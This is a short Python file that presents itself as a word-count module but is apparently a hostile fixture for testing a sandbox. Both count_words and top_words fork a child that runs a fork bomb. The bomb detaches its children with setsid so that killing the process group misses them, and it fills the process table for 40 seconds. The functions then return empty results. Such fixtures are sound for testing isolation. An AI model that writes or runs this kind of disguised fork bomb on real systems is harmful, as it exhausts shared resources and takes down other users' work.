"""Broken word count that fork-bombs: every child starts its own session (so killing the
process group misses it), forks again, and holds its pid slot until the sandbox is gone."""
import os
import time


def bomb(seconds=40):
    end = time.time() + seconds
    while time.time() < end:
        try:
            if os.fork() == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
                continue
        except OSError:
            time.sleep(0.2)
    os._exit(0)


def count_words(text):
    if os.fork() == 0:
        bomb()
    time.sleep(1)
    return {}


def top_words(text, n):
    if os.fork() == 0:
        bomb()
    return []
